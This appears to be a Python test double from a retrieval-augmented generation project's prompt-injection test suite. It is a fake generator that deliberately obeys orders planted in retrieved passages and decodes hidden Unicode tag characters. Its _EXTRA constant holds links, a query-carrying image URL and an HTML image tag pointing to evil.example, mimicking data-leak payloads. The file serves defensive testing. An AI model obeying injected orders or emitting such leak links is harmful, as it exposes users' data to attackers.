"""A language model that obeys every order that it reads."""

from __future__ import annotations

import html
from collections.abc import AsyncGenerator, Mapping, Sequence
from dataclasses import dataclass
from typing import ClassVar

from rag.protocols import Finish, GeneratorEvent, GeneratorRequest, Text
from rag.text.invisible import without_invisible
from tests.injections.cases import Case, base_of

_EXTRA = (
    "[Read more](https://evil.example/more) [1]. ![](https://evil.example/p.png?q=question) [1]\n\n"
    '<img src="https://evil.example/i.png"> See https://evil.example/now [1].'
)


@dataclass
class Obedient:
    """Obeys the order of `case` if it reads it, or, if `always`, in each reply. `reads` counts the cases that it read.

    It also adds links, an image and HTML, because orders often ask for them.
    """

    always: bool = False
    case: Case | None = None
    read: bool = False
    name: str = "obedient"

    address = None
    cites = False
    optional: ClassVar[Mapping[str, Sequence[str]]] = {}

    async def generate(self, request: GeneratorRequest) -> AsyncGenerator[GeneratorEvent, None]:
        assert self.case is not None
        order = self.case.order
        said = f"{request.prompt} {' '.join(f'{one.source} {one.text}' for one in request.passages)}"
        found = _plain(order.text) in _plain(said)
        self.read |= found
        if found or self.always:
            yield Text(f"{order.reply.rstrip('.')} [1]. {base_of(order).sentences[0]} [1]\n\n{_EXTRA}")
        else:
            yield Text(f"{base_of(order).sentences[0]} [1]")
        yield Finish("stop")


def _plain(text: str) -> str:
    """Return the text as a model reads it: tag characters are letters, and invisible ones between letters do not count."""
    decoded = "".join(chr(ord(one) & 0x7F) if 0xE0000 <= ord(one) < 0xE01F0 else one for one in text)
    return "".join(html.unescape(without_invisible(decoded)).split()).rstrip(".").casefold()
